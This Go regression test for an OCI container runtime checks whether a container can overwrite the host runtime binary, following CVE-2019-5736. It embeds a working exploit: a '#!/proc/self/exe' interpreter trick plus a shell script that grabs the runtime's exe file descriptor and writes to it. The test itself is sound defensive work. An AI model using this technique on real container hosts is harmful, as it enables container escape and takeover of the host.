package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
)

// CVE-2019-5736: a container has this program executed among its processes, by naming it as the interpreter of what
// an exec runs, keeps its file open, and writes to it as soon as no process is in the way.
func TestProgramIsOutOfReach(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root")
	}
	busybox, err := os.ReadFile("/bin/busybox")
	if err != nil {
		t.Skip("needs a static /bin/busybox (Debian: busybox-static)")
	}
	program, err := os.ReadFile(os.Args[0])
	if err != nil {
		t.Fatal(err)
	}
	dir, err := os.MkdirTemp("/dev/shm", "cale-oci-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	files := map[string][]byte{
		"victim":          program,
		"rootfs/bin/evil": []byte("#!/proc/self/exe --log=/fifo\n"), // opening a fifo waits for who reads
		"rootfs/bin/attack": []byte(`#!/bin/sh
mkfifo /fifo
while [ ! -e /got ]; do
	for p in /proc/[0-9]*; do
		case "$(readlink $p/exe)" in
		*victim*) exec 9<$p/exe && : >/got; break;;
		esac
	done
done
cat /fifo >/dev/null &
while [ ! -e /go ]; do sleep 0.1; done
for i in 1 2 3 4 5; do
	(echo written >/proc/self/fd/9) 2>>/refused && break
	sleep 0.1
done
: >/done
exec sleep 1000
`),
	}
	for _, applet := range []string{"sh", "sleep", "cat", "readlink", "mkfifo"} {
		files["rootfs/bin/"+applet] = busybox
	}
	for name, data := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	victim := func(args ...string) *exec.Cmd {
		cmd := exec.Command(filepath.Join(dir, "victim"), append([]string{"--root", filepath.Join(dir, "state")}, args...)...)
		cmd.Env, cmd.Dir = append(os.Environ(), "CALE_OCI_TEST=1"), dir
		return cmd
	}
	if out, err := victim("spec").CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	config := filepath.Join(dir, "config.json")
	var s specs.Spec
	text, err := os.ReadFile(config)
	if err == nil {
		err = json.Unmarshal(text, &s)
	}
	if err != nil {
		t.Fatal(err)
	}
	s.Root.Readonly, s.Process.Terminal, s.Process.Args, s.Process.Rlimits = false, false, []string{"/bin/attack"}, nil
	s.Process.Capabilities.Bounding = append(s.Process.Capabilities.Bounding, "CAP_DAC_OVERRIDE")
	s.Process.Capabilities.Permitted, s.Process.Capabilities.Effective = s.Process.Capabilities.Bounding, s.Process.Capabilities.Bounding
	if text, err = json.Marshal(&s); err == nil {
		err = os.WriteFile(config, text, 0o644)
	}
	if err != nil {
		t.Fatal(err)
	}
	id := "cale-oci-test-" + filepath.Base(dir)
	if err := victim("run", "-d", id).Run(); err != nil {
		t.Fatal(err)
	}
	defer victim("delete", "--force", id).Run()
	_ = victim("exec", "--env", "CALE_OCI_TEST=1", id, "/bin/evil").Run()
	if _, err := os.Stat(filepath.Join(dir, "rootfs/got")); err != nil {
		t.Fatalf("the attack did not come about: %v", err)
	}
	if err := os.WriteFile(filepath.Join(dir, "rootfs/go"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	for end := time.Now().Add(time.Minute); ; time.Sleep(50 * time.Millisecond) {
		if _, err := os.Stat(filepath.Join(dir, "rootfs/done")); err == nil {
			break
		}
		if time.Now().After(end) {
			t.Fatal("the attack does not end")
		}
	}
	now, err := os.ReadFile(filepath.Join(dir, "victim"))
	if err != nil || string(now) != string(program) {
		t.Errorf("the container has written to the program: %d bytes, %v", len(now), err)
	}
	if refused, _ := os.ReadFile(filepath.Join(dir, "rootfs/refused")); !strings.Contains(string(refused), "Read-only file system") {
		t.Errorf("the container was refused otherwise than by the mount: %s", refused)
	}
}
